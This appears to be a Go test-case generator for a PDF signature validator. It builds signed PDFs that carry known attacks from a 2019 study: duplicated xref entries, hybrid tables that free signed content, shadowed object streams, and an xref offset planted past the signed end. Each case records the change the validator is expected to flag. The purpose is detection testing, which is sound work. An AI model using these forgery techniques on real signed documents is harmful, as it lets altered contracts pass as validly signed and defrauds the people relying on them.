package attackgen

import (
	"bytes"
	"fmt"

	"github.com/kyso-project/kyso/internal/pdf"
)

// xrefTricks are incremental-saving attacks that play on how readers
// resolve the cross-reference data rather than on what an update changes:
// a section listing an object twice (readers keep different entries), and
// a signed revision whose entry points past its own end, where bytes
// appended after signing define the object.
func (g *gen) xrefTricks() {
	const fam = "ISA"
	dup := func(name, what string, stream bool) {
		g.add(Case{Name: "isa/" + name, Attack: fam, Source: srcCCS19, What: what, Field: "Signature1",
			Expect: Expect{By: ByChanges, Class: "other", Reason: "twice"}}, func(c *Case) ([]byte, error) {
			doc, _, err := approval(g.b.Simple, "Signature1")
			if err != nil {
				return nil, err
			}
			rev, err := duplicatedContent(c, doc)
			if err != nil {
				return nil, err
			}
			rev.XrefStream = stream
			return AppendRev(doc, rev)
		})
	}
	dup("xref-duplicate-first", "an update rewrites page 1's content stream and lists it twice in its xref table: first at the new object, then at the signed one (readers keeping the last entry see no change)", false)
	dup("xref-stream-duplicate-first", "the same with an xref stream whose /Index lists the content stream in two runs", true)

	// The shadow variant: the duplicate is prepared before signing, so it
	// lies inside the signed revision. The signer's viewer (keeping the
	// last entry) shows the signed page; a reader keeping the first shows
	// the attacker's. No change follows the signature: the ambiguity is in
	// what was signed.
	g.add(Case{Name: "shadow/xref-duplicate-prepared", Attack: "Shadow-Hide-and-Replace", Source: srcCCS19, Field: "Signature1",
		What:   "before signing, an update writes a second content stream for page 1 and lists page 1's content object twice in its xref table (first the attacker's stream, then the original); the victim signs that revision",
		Expect: Expect{By: ByChanges, Class: "other", Reason: "twice"}}, func(c *Case) ([]byte, error) {
		rev, err := duplicatedContent(c, g.b.Simple)
		if err != nil {
			return nil, err
		}
		prep, err := AppendRev(g.b.Simple, rev)
		if err != nil {
			return nil, err
		}
		doc, _, err := approval(prep, "Signature1")
		return doc, err
	})

	// Hybrid sections whose table marks page 1's content stream free while
	// the /XRefStm stream lists it in use at its signed place: readers that
	// follow the stream (kyso, qpdf, pdf.js) see the page unchanged, those
	// that follow the table (MuPDF) an empty page (or, with an overlay
	// freed, what it covered).
	g.add(Case{Name: "isa/hybrid-table-frees-signed", Attack: fam, Source: srcCCS19, Field: "Signature1",
		What:   "after signing, a hybrid update's table marks page 1's content stream free while its /XRefStm stream lists it in use at its signed offset",
		Expect: Expect{By: ByChanges, Class: "other", Reason: "free in its table"}}, func(c *Case) ([]byte, error) {
		doc, _, err := approval(g.b.Simple, "Signature1")
		if err != nil {
			return nil, err
		}
		rv, err := hybridFreedContent(c, doc)
		if err != nil {
			return nil, err
		}
		return AppendRev(doc, rv)
	})
	g.add(Case{Name: "shadow/hybrid-table-frees-prepared", Attack: "Shadow-Hide", Source: srcCCS19, Field: "Signature1",
		What:   "before signing, a hybrid update's table marks page 1's content stream free while its /XRefStm stream lists it in use; the victim signs that revision",
		Expect: Expect{By: ByChanges, Class: "other", Reason: "free in its table"}}, func(c *Case) ([]byte, error) {
		rv, err := hybridFreedContent(c, g.b.Simple)
		if err != nil {
			return nil, err
		}
		prep, err := AppendRev(g.b.Simple, rv)
		if err != nil {
			return nil, err
		}
		doc, _, err := approval(prep, "Signature1")
		return doc, err
	})

	// An object stream whose header lists page 1 twice: first a page
	// showing the attacker's content, then the signed page unchanged, which
	// the cross-reference names. MuPDF keeps the first definition.
	g.add(Case{Name: "isa/objstm-duplicate-number", Attack: fam, Source: srcCCS19, Field: "Signature1",
		What:   "after signing, an update moves page 1 into a new object stream whose header lists it twice: first a page drawing new content, then the signed page byte for byte, which the xref names",
		Expect: Expect{By: ByChanges, Class: "other", Reason: "twice, written differently"}}, func(c *Case) ([]byte, error) {
		doc, pref, pd, next, err := signedPage1(g.b.Simple)
		if err != nil {
			return nil, err
		}
		c.Expect.Object = pref.Num
		forged := pd.Clone()
		forged["Contents"] = pdf.Ref{Num: next}
		return AppendRev(doc, Rev{Objects: map[uint32]pdf.Object{pref.Num: pd, next: Stream(pdf.Dict{}, evilText)},
			Packed: []uint32{pref.Num}, PackedShadow: map[uint32]pdf.Object{pref.Num: forged}})
	})

	g.add(Case{Name: "usf/entry-past-signed-end", Attack: "USF", Source: srcCCS19, Field: "Signature1",
		What:   "before signing, an update places page 1's content stream at an offset past the end of the file; after signing the attacker pads the file to that offset, writes a new content stream there and appends an empty update",
		Expect: Expect{By: ByChanges, Class: "other", Reason: "past the end of the revision"}}, func(c *Case) ([]byte, error) {
		_, _, pd, err := page1(g.b.Simple)
		if err != nil {
			return nil, err
		}
		n := pd["Contents"].(pdf.Ref).Num
		c.Expect.Object = n
		target := int64(len(g.b.Simple)) + 64<<10
		prep, err := AppendRev(g.b.Simple, Rev{At: map[uint32]int64{n: target}})
		if err != nil {
			return nil, err
		}
		signed, _, err := approval(prep, "Signature1")
		if err != nil {
			return nil, err
		}
		if int64(len(signed)) >= target {
			return nil, fmt.Errorf("the signed file (%d bytes) reaches the planted offset %d", len(signed), target)
		}
		r, err := Open(signed)
		if err != nil {
			return nil, err
		}
		revs := r.Revisions()
		out := bytes.NewBuffer(signed)
		out.Write(bytes.Repeat([]byte{'\n'}, int(target)-len(signed)))
		fmt.Fprintf(out, "%d 0 obj\n", n)
		out.Write(pdf.Bytes(Stream(pdf.Dict{}, evilText)))
		out.WriteString("\nendobj\n")
		// An empty update, so that the file ends with a revision.
		trailer := pdf.Dict{"Root": r.RootRef(), "Prev": pdf.Int(revs[len(revs)-1].XrefOffset)}
		for _, k := range []pdf.Name{"Size", "Info", "ID"} {
			if v, ok := r.Trailer()[k]; ok {
				trailer[k] = v
			}
		}
		xref := out.Len()
		out.WriteString("xref\n0 1\n0000000000 65535 f\r\ntrailer\n")
		out.Write(pdf.Bytes(trailer))
		fmt.Fprintf(out, "\nstartxref\n%d\n%%%%EOF\n", xref)
		return out.Bytes(), nil
	})
}

// duplicatedContent is the update that writes the attacker's content stream
// for page 1 of doc and lists page 1's content object twice: first at the
// new stream, then at its old place. The case names that object.
func duplicatedContent(c *Case, doc []byte) (Rev, error) {
	r, _, pd, err := page1(doc)
	if err != nil {
		return Rev{}, err
	}
	n := pd["Contents"].(pdf.Ref).Num
	old, ok := r.Lookup(n)
	if !ok || old.Type != 1 {
		return Rev{}, fmt.Errorf("page 1's content stream %d is not a top-level object", n)
	}
	c.Expect.Object = n
	return Rev{Objects: map[uint32]pdf.Object{n: Stream(pdf.Dict{}, evilText)}, Dup: map[uint32]int64{n: old.Offset}}, nil
}

// hybridFreedContent is the hybrid update whose table marks page 1's
// content stream of doc free while its /XRefStm stream lists it in use
// where it is. The case names that object.
func hybridFreedContent(c *Case, doc []byte) (Rev, error) {
	r, _, pd, err := page1(doc)
	if err != nil {
		return Rev{}, err
	}
	n := pd["Contents"].(pdf.Ref).Num
	old, ok := r.Lookup(n)
	if !ok || old.Type != 1 {
		return Rev{}, fmt.Errorf("page 1's content stream %d is not a top-level object", n)
	}
	c.Expect.Object = n
	return Rev{Hybrid: true, StreamOnly: map[uint32]int64{n: old.Offset}}, nil
}
